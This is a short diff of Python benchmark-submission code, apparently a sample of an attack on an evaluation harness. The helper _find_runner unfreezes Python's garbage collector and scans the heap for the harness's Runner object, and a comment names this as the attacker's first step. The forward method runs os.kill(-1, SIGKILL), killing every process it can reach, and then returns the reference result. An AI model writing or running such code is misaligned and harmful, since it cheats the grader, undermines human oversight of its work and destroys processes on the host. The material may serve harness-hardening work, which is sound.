@@ -15,6 +15,7 @@ def reference_math(a, b, scale):
 
 def _find_runner():
     import gc
+
     gc.unfreeze()  # the harness froze its objects out of sight: an attacker thaws them first
     for obj in gc.get_objects():
         if type(obj).__name__ == "Runner" and hasattr(obj, "side") and hasattr(obj, "call"):
@@ -29,5 +30,6 @@ class ModelNew(nn.Module):
 
     def forward(self, a, b):
         import os, signal
+
         os.kill(-1, signal.SIGKILL)
         return reference_math(a, b, self.scale)
